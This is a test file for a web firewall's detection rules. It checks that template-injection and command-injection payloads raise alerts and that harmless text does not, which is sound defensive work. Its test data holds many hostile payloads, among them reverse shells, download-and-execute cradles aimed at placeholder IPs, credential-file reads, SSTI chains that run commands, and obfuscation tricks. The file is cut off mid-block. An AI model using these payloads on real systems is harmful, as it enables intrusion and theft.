import fc from 'fast-check';
import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { shellForm } from '@/runtime/analyzer/engine/detection/decode';
import { commandInjectionPack } from '@/runtime/analyzer/engine/detection/rules/cmdi';
import { shellshockPack } from '@/runtime/analyzer/engine/detection/rules/shellshock';
import { shellCommands } from '@/runtime/analyzer/engine/detection/shell';
import { globMatches, resolveGlobCommand } from '@/runtime/analyzer/engine/detection/shell/glob';
import { templateInjectionPack } from '@/runtime/analyzer/engine/detection/rules/ssti';
import { ruleScore } from '@/runtime/analyzer/engine/detection/scoring';
import type { RulePack, ValueLocation } from '@/runtime/analyzer/engine/detection/types';

const score = (pack: RulePack, value: string, location: ValueLocation = 'query', name = 'q'): number =>
  inspectValue(new InspectedValue(location, name, value), [pack]).reduce((sum, r) => sum + ruleScore(r), 0);
const idsOf = (pack: RulePack, value: string): number[] => inspectValue(new InspectedValue('query', 'q', value), [pack]).map((r) => r.id);

describe('SSTI pack', () => {
  it.each([
    // arithmetic probes in each engine's delimiters, and bare where the input already sits in an expression
    '{{7*7}}',
    // names spelled in joined strings
    "{{ lipsum['__glo'+'bals__']['o'+'s']['po'+'pen']('id')['read']() }}",
    "{{ cycler['__in'~'it__']['__glo'~'bals__'] }}",
    // Python's str.format field reaching the application's globals
    '{user.__class__.__init__.__globals__[app].config[SECRET_KEY]}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '*{7*7}',
    '@(7*7)',
    '[[${7*7}]]',
    '42*42',
    ' 1337 * 1337 ',
    "7*'7'",
    '%7B%7B7*7%7D%7D',
    '%252A%257B7*7%257D',
    // EL implicit objects and FreeMarker special variables
    '${pageContext.request.getSession()}',
    '#{facesContext.externalContext.request}',
    '${applicationScope}',
    '${.vars}',
    '${ .data_model?keys }',
    // Twig and Django globals
    '{{dump(app)}}',
    '{{app.request.server.all|join(",")}}',
    '{{ settings.SECRET_KEY }}',
    // A framework's secrets reached from a template variable, and Go's whole context as a value of its own
    '{{handler.settings}}',
    '{{messages.storages.0.signer.key}}',
    '{{.}}',
    '{% print 7*7 %}',
    "{{ 'id'|passthru }}",
    '{{ _context }}',
    '{math equation="7*7"}',
    // Velocity references need no braces
    '$request.getClass()',
    '${class.getResource("").getPath()}',
    // ERB and EJS reaching the environment
    '<%= ENV.inspect %>',
    "<%- global.process.mainModule.require('child_process').execSync('id') %>",
    // Pug code lines, OGNL `%{}` and parenthesised arithmetic (Struts S2-057 probes)
    "- var x = root.process.mainModule.require('child_process').execSync('id')\n= x",
    'p hi\n  - each v in [global.process.mainModule]\n  = v',
    '${(111+111)}',
    '%{(7*7)}',
    // Magento's template filter calling back into PHP (CVE-2022-24086)
    '{{var this.getTemplateFilter().addAfterFilterCallback(system).filter(id)}}',
    // Odoo's inline mail template reaching the ORM as the superuser
    "Order {{ object.name }} {{ object.env['ir.config_parameter'].sudo().get_param('database.secret') }}",
    // A snippet loaded up parent steps: a file outside the templates (Liquid, Twig)
    "{% render '../../config/master.key' %}",
    "{{ include('../../app/config/parameters.yml') }}",
  ])('alerts at level 1 on %s', (payload) => {
    expect(score(templateInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    '1920*1080',
    '1*1',
    '2*3',
    '3 * 4 = 12',
    'x*x',
    '{{ product.name }}',
    '${price}',
    'Hello {{name}}, your order ships soon',
    'settings.theme',
    '<% if user %>',
    'app.request',
    '$scope.user.name',
    '{{ name|upper }}',
    'Total: $total.amount',
    // A Markdown list item is no Pug code line
    '- if you use child_process.exec, escape its arguments',
    '- var names: see process.env docs',
    // Loops, assignments and filters are what saved templates (CMS, e-mail, theme editors) are made of
    '{% for line in order.line_items %}{{ line.title }}{% endfor %}',
    '{% set total = cart.total %}{% raw %}{{ x }}{% endraw %}',
    '<#if order.total > 100>Free shipping</#if><#list order.items as item>${item.name}</#list>',
    '<#assign greeting = "Hello">${greeting}',
    // Themes load snippets by name
    "{% render 'product-card', product: product %}",
    "{{ source('partials/footer.html') }}",
    // Mustache and Dust sections around text: an alert's message, an e-mail's loop
    '{{#is_alert}}p95 latency is {{value}}s{{/is_alert}}\n{{#is_recovery}}Recovered.{{/is_recovery}}',
    '{{#items}}<li>{{name}} x {{quantity}}</li>{{/items}}',
    // a search template's default value
    '{{max_price}}{{^max_price}}1000{{/max_price}}',
  ])('leaves %s alone', (value) => {
    expect(score(templateInjectionPack, value)).toBeLessThan(5);
  });

  it.each([
    // FreeMarker built-ins, Velocity directives, Smarty functions and FreeMarker square syntax that
    // hold neither a `*` nor a brace delimiter
    '"freemarker.template.utility.Execute"?new()("id")',
    '"1+1"?eval',
    '"x"?interpret',
    '#parse("/etc/passwd")',
    '#include("/etc/passwd")',
    "{passthru('id')}",
    '{phpinfo()}',
    '[$7+7]',
    // a section around the number a probe looks for in the answer
    '{^xyzm42}1764{/xyzm42}',
    '{{#x}}1764{{/x}}',
  ])('alerts at level 1 on %s, which has no `*`', (payload) => {
    expect(score(templateInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each(['https://example.com/page?eval=1', '/search?interpret=yes&q=a', 'a?evaluation'])('leaves the URL %s alone', (value) => {
    expect(score(templateInjectionPack, value)).toBe(0);
  });

  it('lets through its prefilter every value its rules match', () => {
    // The prefilter may only skip values no rule can match: run the rules without it on values
    // built from the rules' own delimiters, directives and operators.
    const token = fc.constantFrom(
      ...[
        '{{',
        '}}',
        '{%',
        '%}',
        '${',
        '#{',
        '*{',
        '@{',
        '~{',
        '}',
        '<%',
        '%>',
        '<#',
        '[#',
        '[=',
        '[$',
        '[[',
        ']]',
        '[(',
        '@(',
        ')',
        '(',
        '#set',
        '#parse',
        '#macro',
        '{php}',
        '{$smarty',
        '{passthru',
        '{if ',
        '{literal}',
        '{math ',
        '{#',
        '{^',
        '{/',
        '?new()',
        '?eval',
        '?interpret',
        '__',
        '.',
        '::',
        '7',
        '42',
        '*',
        '+',
        ' ',
        "'",
        '"',
        '$x.y',
        'system',
        'exec',
        'config',
        'java.lang.runtime',
        'getclass(',
        '|',
        'passthru',
        'a',
        'x',
        '=',
        '&',
        '%{',
        '\n',
        '- var x =',
        '- if (',
        '= ',
        'process.mainmodule',
      ],
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 12 }), (tokens) => {
        const v = new InspectedValue('query', 'q', tokens.join(''));
        const reported: number[] = [];
        templateInjectionPack.inspect(v, (rule) => reported.push(rule.id));
        return reported.length === 0 || templateInjectionPack.prefilter(v);
      }),
      { numRuns: 20_000 },
    );
  });

  it('reads a square probe as one rule, not as arithmetic in any template', () => {
    expect(idsOf(templateInjectionPack, '42*42')).toEqual([700104]);
    expect(idsOf(templateInjectionPack, '{{42*42}}')).toEqual([700101]);
  });
});

describe('Jelly template injection', () => {
  it('reads Jelly markup after other text (a page title rendered through Jelly), not a UI page saved whole', () => {
    const probe = '<style><j:jelly xmlns:j="jelly" xmlns:g=\'glide\'><g:evaluate>gs.addErrorMessage(668.5*2);</g:evaluate></j:jelly></style>';
    expect(idsOf(templateInjectionPack, probe)).toContain(700105);
    const page =
      '<?xml version="1.0" encoding="utf-8" ?>\n<j:jelly trim="false" xmlns:j="jelly:core" xmlns:g="glide"><g:evaluate var="jvar_n" expression="1"/></j:jelly>';
    expect(idsOf(templateInjectionPack, page)).not.toContain(700105);
  });
});

describe('command injection pack', () => {
  it.each([
    // PowerShell download cradles and invocation
    "; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    '| powershell iex(new-object net.webclient).downloadstring("http://x/a")',
    '& iwr http://198.51.100.7/p.ps1 | iex',
    '& Invoke-WebRequest -Uri http://198.51.100.7/a -OutFile a.exe',
    '; [System.Convert]::FromBase64String($p)',
    // a subexpression calling .NET's network or process classes (a DNS lookup that leaks a name)
    'x $([System.Net.Dns]::GetHostAddresses("$env:USERDOMAIN.p4.oast.example"))',
    // shell expansions only an evasion uses
    'echo $((1337+1))',
    ';echo $((a*b))',
    ';${PATH:0:1}etc${PATH:0:1}passwd',
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ';/???/??t /???/p??s??',
    '|/b?n/c*t /etc/passwd',
    '& %COMSPEC% /c dir',
    ';/usr/bin/w?oami',
    ';/bin/ca? /etc/pa??wd',
    ';/b[i]n/c[a]t /e[t]c/sh[a]dow',
    '/usr/b[i]n/wh[o]ami',
    // PowerShell cmdlets as probes, a hidden credentials file, a lone destructive command
    ';Get-Process',
    ';Start-Sleep -s 5',
    '&& cat .htpasswd',
    ';reboot',
    // empty substitutions and quoted pieces inside a command name
    ';wh$()oami',
    ';wh``oami',
    ';"i"d',
    ";'who'ami",
    ";$'id'",
    // a whole value that names an environment variable a probe prints
    '$HOME',
    '${PATH}',
    "$ENV{'HOME'}",
    '%COMSPEC%',
    '$env:USERNAME',
    // plain-word arguments of an unmistakable command after a separator; a trailing shell comment
    ';getent passwd',
    '|nslookup attacker',
    '$(uname -r)',
    // a PowerShell cmdlet on a drive (Verb-Noun names are no words of text)
    '$(Get-ChildItem Env: | Out-String)',
    ';Get-Service WinRM',
    "'; tasklist #",
    '"; whoami # x',
  ])('alerts at level 1 on %s', (payload) => {
    expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    // variables the value assigns, then expands into a command (sh and cmd)
    'x;a=who;b=ami;${a}${b}',
    'x|a=\'w\';b="hoami";$a$b',
    'x;c=id;$c',
    'x;export p=uname;$p -a',
    'x& set a=who&&set b=ami&&call %a%%b%',
    'x& set "a=host"&& set "b=name"&& call %a%%b%',
    // unset braced variables inside a word, an empty brace alternative
    'x;w${u}h${u}o${u}a${u}m${u}i',
    'x|un${z}ame -a',
    'x;{id,}',
    // wildcard paths the shell expands to a command
    'x;/usr/b[i]n/wh[o]ami',
    'x|/u?r/?b?n/u?am? -a',
    '127.0.0.1;/s??n/if*fig',
    // a command's output run as the command: decoded, reversed, rotated
    'x;$(echo d2hvYW1p|base64 -d)',
    'x;`echo d2hvYW1p | base64 -d`',
    'x;$(rev<<<imaohw)',
    'x;$(xxd -r -p <<< 6964)',
    'x|"$(printf "\\151\\144")"',
    // inside a word, hex or octal escapes printf turns into letters (decoding would hide them)
    "backup$(printf '\\x69\\x64')",
    'report-`printf "\\151\\144"`.csv',
    'x;eval $(echo aWQ=|base64 -d)',
    // redirections among a command's arguments; socat relays; launchers
    'x;find / -writable -type d 2>/dev/null',
    'x;socat tcp-connect:198.51.100.7:4444 exec:/bin/bash,pty,stderr',
    'x;sudo whoami',
    'x;nohup id',
    // cmd: substrings of variables spelling a command or a space, for /f running a command
    'x&%COMSPEC:~-7,3% /c dir',
    'x&c%PUBLIC:~5,1%d /c whoami',
    'x|%ProgramFiles:~10,1%whoami',
    'x& for /f "tokens=*" %a in (\'hostname\') do curl http://x.example/%a',
    // PowerShell: call or dot-source of a computed name, .NET and WMI process creation, aliases
    "x; & (\"{1}{0}\" -f 'ex','i') 'whoami'",
    "x; .( $pshome[4]+$pshome[30]+'x') 'whoami'",
    "x; &(Get-Command I*e-Ex*) 'hostname'",
    "x; $a='who';$b='ami';&($a+$b)",
    'x; &([char]105+[char]100)',
    "x; [Diagnostics.Process]::Start('calc')",
    "x; $ExecutionContext.InvokeCommand.InvokeScript('whoami')",
    "x; ([WMIClass]'Win32_Process').Create('calc')",
    'x; Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc',
    "x; sal x iex; x 'whoami'",
    // options injected into a command the application runs (git, tar, find, rsync, ssh, zip, curl, wget, sendmail)
    "https://git.example/y.git --upload-pack='touch /tmp/x'",
    '--receive-pack=sh',
    '-c core.sshCommand=touch /tmp/x',
    "--config core.pager='sh -c id'",
    'ext::sh -c touch% /tmp/pwn',
    '--checkpoint=1 --checkpoint-action=exec=sh x.sh',
    '--use-compress-program=sh',
    'a.txt -execdir id ;',
    '-exec cat /etc/shadow {} +',
    '-fprintf /var/www/x.php hello',
    '-e sh -c id',
    '-oProxyCommand="sh -c id"',
    // an SSH URL whose host is an option, for git, svn or hg to hand to ssh
    'ssh://-oProxyCommand=curl -s 45.77.12.9/p|sh/x',
    'git+ssh://-oProxyCommand=touch${IFS}x/repo',
    '-T -TT=sh',
    'x.example/a --output /var/www/html/a.php',
    '-d @/etc/passwd http://x.example',
    '-F file=@/etc/passwd http://x.example',
    '--post-file=/etc/passwd http://x.example',
    '-e use_askpass=/tmp/x',
    '-OQueueDirectory=/tmp -X/var/www/html/x.php',
    '--gpu-launcher="sh -c id"',
  ])('alerts at level 1 on the evasion or injection technique %s', (payload) => {
    expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    // option-like prose and command lines named in documentation searches
    'curl -X POST https://api.example.com/v1/orders -H "Content-Type: application/json"',
    'npm install --save-dev typescript',
    'find -exec explained',
    '-exec vs xargs',
    'use -o /tmp/out to write a file',
    'what does --upload-pack do',
    'rsync -e ssh src dst',
    'x -o file.txt',
    'John -o Smith',
    'report.csv --output=summary.pdf',
    '-d @data.json',
    '-c core.autocrlf=false',
    '--no-verify',
    '2021-01-01 - 2021-12-31',
    // variables, braces and globs in text and code
    'a=1&b=2&c=$a',
    'R&D: a=1;b=2',
    'debug=true;verbose=$debug',
    'hello${name}world',
    'tags {foo,}',
    'glob /*/* pattern',
    'src/**/*.ts',
    'see /usr/lib/*.so for files',
    // jQuery and JavaScript
    '$(document).ready(function(){ $(".btn").click(); });',
    '});$(this).hide();',
    // batch and PowerShell look-alikes
    'set d=%date:~-4,4%',
    'echo %date:~-4,4%',
    'Tom & (Jerry) show',
    '[System.Diagnostics.Process] class docs',
    'x; then what',
    'please start the engine; start now',
  ])('leaves %s alone at level 1', (value) => {
    expect(score(commandInjectionPack, value)).toBeLessThan(5);
  });

  it('counts a fetch as aimed out of the application by its target, not by any URL', () => {
    expect(idsOf(commandInjectionPack, 'curl -X POST https://api.example.com/v1/orders')).toEqual([400113]);
    expect(idsOf(commandInjectionPack, 'curl http://198.51.100.7/x')).toEqual([400115]);
    expect(idsOf(commandInjectionPack, 'wget https://x.example/s.sh')).toEqual([400115]);
    expect(idsOf(commandInjectionPack, 'wget https://x.example/a -O /tmp/a')).toEqual([400115]);
  });

  it('reads a cmd substring on the value as delivered, where full decoding would take %12 for a byte', () => {
    expect(idsOf(commandInjectionPack, '&ping%CommonProgramFiles:~10,-18%127.0.0.1')).toContain(400118);
  });

  it.each([
    'IEX (Investors Exchange) opened higher',
    'How to download files in PowerShell',
    'new object oriented design',
    'price $((total)) pending',
    '/**/*',
    '/search?q=a/b?',
    'What is $HOME in Linux?',
    'USD $100',
    'path/to/file?.txt',
    'Read "Dune" daily',
    'The device froze; reboot fixed it',
    'we met; get-together later',
    'Get-ChildItem Env: lists the variables; see the docs for more',
    'see /usr/bin/ for binaries',
    'cat .net developer',
    'a;ps x',
    'meet|last week',
    'size;w 2',
    'tags;groups admins',
    'notes; chmod explained',
    'I ran ping; traceroute showed loss at hop 5',
    'Great post | whoami podcast episode 12',
    'see the docs; netstat options explained',
    'Q&A | uptime #devops',
  ])('leaves %s alone', (value) => {
    expect(score(commandInjectionPack, value)).toBeLessThan(5);
  });

  it('reads code of other server languages starting a process: Elixir, Erlang, Lua, Scala, Deno, Bun, a hidden Python import', () => {
    for (const value of [
      'elem(System.cmd("id", []), 0)',
      ":os.cmd('curl -s http://203.0.113.7/x.sh | sh') && price * 0.8",
      'os:cmd("wget -qO- http://203.0.113.7/e.sh | sh").',
      '{ import scala.sys.process._; Seq("sh", "-c", "id").!! }',
      'os.execute("curl -s http://203.0.113.30/l.sh|sh")',
      "io.popen('id'):read('*a')",
      'await new Deno.Command("id").output()',
      'Bun.spawnSync(["id"])',
      "getattr(__import__(chr(111)+chr(115)),'sys'+'tem')('id')",
    ])
      expect({ value, score: score(commandInjectionPack, value, 'body_json', 'expr') >= 5 }).toEqual({ value, score: true });
    for (const value of ['the System.cmd function docs', "const os = require('os'); os.cpus()", 'The os.execute function returns a status code'])
      expect({ value, score: score(commandInjectionPack, value, 'body_json', 'expr') }).toEqual({ value, score: 0 });
  });

  it("reads a Go template printing a whole struct or a secret's field, not a notification template's define, template, index or number format", () => {
    for (const value of ['{{printf "%#v" .}}', '{{ printf "%+v" .Config.DB }}', '{{printf "%s" .Config.DatabaseURL}}', '{{ call .Func "id" }}'])
      expect({ value, score: score(templateInjectionPack, value, 'body_json', 'body') >= 5 }).toEqual({ value, score: true });
    for (const value of [
      '{{ define "slack.title" }}[{{ .Status | toUpper }}] {{ .CommonLabels.alertname }}{{ end }}{{ template "slack.title" . }}',
      'returned {{ printf "%.2f" $values.B.Value }} 5xx ratio, {{ index .Labels "route" }}',
      '{{ printf "%v" .Status }}',
    ])
      expect({ value, score: score(templateInjectionPack, value, 'body_json', 'template') }).toEqual({ value, score: 0 });
  });

  it('reads templates reaching the environment, commands or context in Elixir, Deno, Bun and Rust engines', () => {
    for (const value of [
      '<%= inspect(System.get_env()) %>',
      '<%= JSON.stringify(Deno.env.toObject()) %>',
      '{{ get_env(name="DATABASE_URL") }}',
      '{{ __tera_context }}',
      '<%= Bun.env.SECRET %>',
    ])
      expect({ value, score: score(templateInjectionPack, value, 'body_json', 'template') >= 5 }).toEqual({ value, score: true });
    expect(score(templateInjectionPack, 'Hello {{ name }}, your order {{ order.id }} ships today', 'body_json', 'template')).toBe(0);
  });

  it('reads an option of a chained shell or interpreter as a word of its own: `node-exporter` is another program', () => {
    expect(score(commandInjectionPack, 'up{job=~"kubelet|node-exporter"}', 'query', 'match[]')).toBe(0);
    expect(score(commandInjectionPack, '|php-fpm', 'query', 'q')).toBe(0);
    expect(score(commandInjectionPack, '|node -e x', 'query', 'q')).toBeGreaterThanOrEqual(5);
    expect(score(commandInjectionPack, '&cmd/c whoami', 'query', 'q')).toBeGreaterThanOrEqual(5);
  });

  it('reads a variable inside a quoted argument as a command argument', () => {
    expect(score(commandInjectionPack, `x';nslookup "$env:COMPUTERNAME.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
    expect(score(commandInjectionPack, `x';Resolve-DnsName "$env:USERDOMAIN.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
    expect(score(commandInjectionPack, 'x; more "$5 off" deals')).toBe(0);
  });

  it('reads a lone number as a command argument only for delay commands', () => {
    expect(score(commandInjectionPack, 'sleep 10')).toBe(4);
    expect(score(commandInjectionPack, 'Start-Sleep 5')).toBe(4);
    expect(score(commandInjectionPack, 'w 2')).toBe(0);
    expect(score(commandInjectionPack, 'RM 41')).toBe(0);
  });

  it("reads a probe command as a command parameter's whole value as a web shell call", () => {
    for (const [name, value] of [
      ['cmd', 'id'],
      ['cmd', 'uname -a'],
      ['exec', 'ls -la'],
      ['command', 'whoami'],
      ['CMD', 'ipconfig /all'],
    ])
      expect({ name, value, score: score(commandInjectionPack, value, 'query', name) >= 5 }).toEqual({ name, value, score: true });
    for (const [name, value] of [
      ['cmd', 'list'],
      ['cmd', 'id card'],
      ['q', 'id'],
      ['c', 'ps'],
      ['command', 'ls the files'],
    ])
      expect({ name, value, score: score(commandInjectionPack, value, 'query', name) }).toEqual({ name, value, score: 0 });
  });

  it('reads a text-filtering word command after a pipe, or opening a line of a longer text, only when it is given a file or address', () => {
    for (const value of [
      'search index=web status>=500 | stats count by uri_path | sort -count | head 20',
      'SELECT a\nFROM orders o\nJOIN customers c ON c.id = o.cid\nLIMIT 5',
    ])
      expect({ value, score: score(commandInjectionPack, value) }).toEqual({ value, score: 0 });
    for (const value of ['x|head /etc/passwd', '127.0.0.1|sort -k1 /etc/shadow', 'a\nb\nhead -n 5 /etc/passwd', 'x\nsort -k2 data.txt'])
      expect({ value, alerts: score(commandInjectionPack, value) >= 5 }).toEqual({ value, alerts: true });
  });

  it('reads no chained command in a multi-line post in English that quotes a shell session, but still a reverse shell', () => {
    const post =
      'You can compress old logs like this:\n\n```bash\nfor f in /var/log/app/*.log; do gzip -9 "$f"; done\n```\n\nAnd check the disk with `du -sh /var/log/* | sort -h`.';
    expect(score(commandInjectionPack, post, 'body_json', 'raw')).toBe(0);
    expect(score(commandInjectionPack, 'x\n;cat /etc/passwd\n;uname -a', 'body_json', 'raw')).toBeGreaterThanOrEqual(5);
    const shell = 'To get a shell on the box, this is what the attacker sent:\n\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n\nthen they ran id.';
    expect(idsOf(commandInjectionPack, shell)).toContain(400106);
  });

  it("reads no network command in a client's User-Agent comment naming its libraries' versions", () => {
    const ua = 'Composer/2.8.3 (Linux; 6.8.0-49-generic; PHP 8.3.14; cURL 8.5.0; Platform-PHP 8.3.14; CI)';
    expect(score(commandInjectionPack, ua, 'header', 'User-Agent')).toBe(0);
    expect(score(commandInjectionPack, 'Mozilla/5.0 (X11; curl 10.0.0.7)', 'header', 'User-Agent')).toBeGreaterThanOrEqual(5);
    expect(score(commandInjectionPack, 'x; ping 127.1', 'header', 'User-Agent')).toBeGreaterThanOrEqual(5);
  });

  it('does not read a base64 stickiness cookie as the command `w` at any level', () => {
    const cookie = 'w+GXeHFgLhDI4kyNigIYJD3p42zvf6qSHdisTxoGou3nS5MPZ+vTZehaI0rMGe17Ov3w+yl+usSk/VW9mXzuBSv4XVB0vIQ=';
    expect(score(commandInjectionPack, cookie, 'cookie', 'lbsticky')).toBe(0);
    expect(score(commandInjectionPack, 'w+/etc/passwd', 'cookie', 'lbsticky')).toBeGreaterThan(0);
  });

  it.each([
    [
      'a Dockerfile',
      'FROM python:3.12-slim AS base\nRUN apt-get update \\\n && apt-get install -y curl \\\n && rm -rf /var/lib/apt/lists/*\nCMD ["gunicorn", "app:app"]',
    ],
    ['a Makefile', 'VERSION ?= $(shell git describe --tags 2>/dev/null || echo dev)\n\nbuild:\n\tgo build -o bin/app ./cmd/app\nclean:\n\trm -rf bin/'],
    [
      'a Kubernetes manifest that starts a shell',
      'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: job\n      command: ["/bin/sh", "-c", "echo ready"]',
    ],
    [
      'a build script',
      '#!/usr/bin/env bash\nset -euo pipefail\nTMP=$(mktemp -d)\ntrap \'rm -rf "$TMP"\' EXIT\ncurl -fsSL "https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz" | tar -xz -C "$TMP"',
    ],
  ])('leaves %s sent whole to a repository or CI server', (_what, file) => {
    expect(score(commandInjectionPack, file, 'body_json', 'content')).toBe(0);
  });

  it.each([
    [
      'a reverse shell written in Groovy',
      'String host="203.0.113.45";\nint port=4444;\nString cmd="/bin/bash";\nProcess p=new ProcessBuilder(cmd).start();Socket s=new Socket(host,port);',
    ],
    ['a reverse shell in a script file', '#!/bin/sh\necho starting job\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\necho done'],
    [
      'a download piped into a shell inside a YAML field',
      'name: build-web\nimage: "alpine:3.18$(curl -s http://198.51.100.23/i|sh)"\ncommand: ["make", "build"]',
    ],
    ['a file whose first line breaks out of a command', 'x; cat /etc/passwd\nfoo bar\nbaz qux'],
    ['a command after a line break, in two lines', 'report.pdf\ncat /etc/passwd'],
  ])('still reads %s', (_what, value) => {
    expect(score(commandInjectionPack, value, 'body_json', 'content')).toBeGreaterThan(0);
  });
});

describe('shell form', () => {
  it('drops empty substitutions and joins quoted pieces the shell would join', () => {
    expect(shellForm(';wh$()oami')).toBe(';whoami');
    expect(shellForm(';wh``oami')).toBe(';whoami');
    expect(shellForm(';"i"d')).toBe(';id');
    expect(shellForm(";$'id'")).toBe(';id');
    expect(shellForm('say "hello" world')).toBe('say "hello" world');
  });

  it('expands the variables a value assigns and drops the assignments, which run nothing', () => {
    expect(shellForm(';a=wh;b=oami;$a$b')).toBe(';;;whoami');
    expect(shellForm('x;a=\'wh\' b="oami";${a}${b} -a')).toBe('x; ;whoami -a');
    expect(shellForm('& set x=who&& set y=ami&& call %x%%y%')).toBe('& && && call whoami');
    // nothing assigned is used: the text stays as it is
    expect(shellForm('a=1&b=2&c=$d')).toBe('a=1&b=2&c=$d');
    // expanding would lengthen the value
    expect(shellForm(';a=whoami;$a;$a;$a')).toBe(';a=whoami;$a;$a;$a');
  });

  it('empties a braced variable the value never assigns inside a word, and reads an empty brace alternative', () => {
    expect(shellForm(';who${x}ami')).toBe(';whoami');
    expect(shellForm('total ${amount} usd')).toBe('total ${amount} usd');
    expect(shellForm(';{whoami,}')).toBe(';whoami ');
  });

  it("reads cmd's delimiters around /c as spaces", () => {
    expect(shellForm('x&cmd,/c,whoami')).toBe('x&cmd /c whoami');
    expect(shellForm('cmd.exe;;/k=dir')).toBe('cmd.exe /k dir');
    expect(shellForm('see cmd, /c is its switch')).toBe('see cmd /c is its switch');
  });

  it("runs the command of cmd's for /f like a substitution", () => {
    expect(shellForm("& for /f %i in ('whoami') do nslookup %i.x")).toBe('& for /f %i in $(whoami);do nslookup %i.x');
  });

  it('terminates and never grows the value on arbitrary input', () => {
    const alphabet = fc.constantFrom(...'$\'"`(){},;|&^\\ +ifsIFS0123abc/.-*?=%~[]'.split('').concat(['set ', ' in (', ') do', 'a=']));
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 400 }), (chars) => {
        const input = chars.join('').toLowerCase();
        expect(shellForm(input).length).toBeLessThanOrEqual(input.length);
      }),
      { numRuns: 500 },
    );
  });
});

describe('wildcard command paths', () => {
  it('expands a wildcard path to the command it names in a binary directory', () => {
    expect(resolveGlobCommand('/u?r/b?n/i?')).toBe('id');
    expect(resolveGlobCommand('/???/??t')).toBeDefined();
    expect(resolveGlobCommand('/usr/b[i]n/wh[o]ami')).toBe('whoami');
    expect(resolveGlobCommand('/bin/[!x]at')).toBe('cat');
    expect(resolveGlobCommand('/usr/local/bin/*hoami')).toBe('whoami');
  });

  it('reads $IFS glued to what it separates as the evasion, not the word in a question about the shell', () => {
    const ids = (value: string): number[] => inspectValue(new InspectedValue('query', 'q', value)).map((r) => r.id);
    expect(ids('cat$IFS/etc/passwd')).toContain(400106);
    expect(ids(';cat$IFS$9/etc/passwd')).toContain(400106);
    expect(ids(';ls $IFS/tmp')).toContain(400106);
    expect(ids('what does $IFS mean in bash')).toEqual([]);
  });

  it("reads netcat's Windows build handing a shell over (nc.exe -e cmd.exe)", () => {
    const ids = (value: string): number[] => inspectValue(new InspectedValue('query', 'path', value)).map((r) => r.id);
    expect(ids('\\\\fs01\\public & \\\\203.0.113.45\\tools\\nc.exe -e cmd.exe 203.0.113.45 443')).toContain(400106);
    expect(ids('x & nc.exe -e cmd.exe 203.0.113.45 443')).toContain(400106);
  });

  it('reports a command word spelt with bracket sets as the glob evasion, and leaves route patterns alone', () => {
    const ids = (value: string): number[] => inspectValue(new InspectedValue('query', 'service', value)).map((r) => r.id);
    expect(ids('nginx;/b[i]n/c[a]t /e[t]c/sh[a]dow')).toContain(400119);
    expect(ids('x;/[b]in/[i]d')).toContain(400119);
    expect(ids('/[locale]/products/[id]')).toEqual([]);
    expect(ids('/blog/[slug]/page.tsx')).toEqual([]);
  });

  it('leaves patterns that spell no command, or lie outside binary directories', () => {
    expect(resolveGlobCommand('/usr/bin/id')).toBeUndefined();
    expect(resolveGlobCommand('/*/*')).toBeUndefined();
    expect(resolveGlobCommand('/bin/*')).toBeUndefined();
    expect(resolveGlobCommand('/etc/pa??wd')).toBeUndefined();
    expect(resolveGlobCommand('/usr/lib/*.so')).toBeUndefined();
    expect(resolveGlobCommand('/bin/zz?zz')).toBeUndefined();
  });

  it('matches globs as the shell does', () => {
    expect(globMatches('*', '')).toBe(true);
    expect(globMatches('a*b*c', 'axxbyyc')).toBe(true);
    expect(globMatches('a*b*c', 'axxbyy')).toBe(false);
    expect(globMatches('[a-c]?', 'bz')).toBe(true);
    expect(globMatches('[a-c]?', 'dz')).toBe(false);
    expect(globMatches('[ab', '[ab')).toBe(true);
  });
});

describe('shell grammar readings', () => {
  const names = (value: string) => shellCommands(shellForm(value)).map((c) => c.name);

  it('reads the command a launcher runs, or the launcher when none follows', () => {
    expect(names('x;sudo whoami')).toEqual(['whoami']);
    expect(names('x& call whoami')).toEqual(['whoami']);
    expect(names('x;sudo -l')).toEqual(['sudo']);
  });

  it('reads redirections as arguments and a closing quote of a JSON string as the end of a command', () => {
    expect(shellCommands('x; find / -perm -4000 2>/dev/null')[0]).toMatchObject({ name: 'find', commandArgs: true });
    expect(shellCommands('{"host":"8.8.8.8;id"}')[0]).toMatchObject({ name: 'id', endsCleanly: true });
  });
});

describe('Windows living-off-the-land and obfuscated PowerShell', () => {
  it.each([
    'PRN01&rundll32.exe \\\\203.0.113.9\\share\\payload.dll,DllMain',
    'x&rundll32 shell32.dll,ShellExec_RunDLL calc',
    "i`e`x (N`ew-Ob`je`ct Ne`t.We`bCl`ient).('Down'+'loadStr'+'ing').Invoke('http://203.0.113.77/a.ps1')",
    'p`owershell -e`nc SQBFAFgA',
    "$wc=New-Object ('Net.'+'WebClient');$wc.('Down'+'loadFile')('http://203.0.113.7/a.exe','a.exe')",
    // unset variables glued to words, a quoted variable as an argument, expr's arithmetic probe
    'example.org;cat$u /etc$u/passwd$u',
    '& dir "%PROGRAMFILES%"',
    'localhost|expr 91 + 27',
    '$(expr 123 + 456)',
    // cmd's carets inside the words of a chained command, and its `,;=` delimiters around /c
    '127.0.0.1|n^e^t u^s^e^r',
    '127.0.0.1&cmd,/c,whoami',
    '127.0.0.1&cmd.exe;/c=dir',
    // Node: code decoded from base64 and evaluated, the process module's name given to a plugin loader
    "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp','base64').toString())",
    'child_process',
  ])('%s alerts at level 1', (payload) => {
    expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
  });

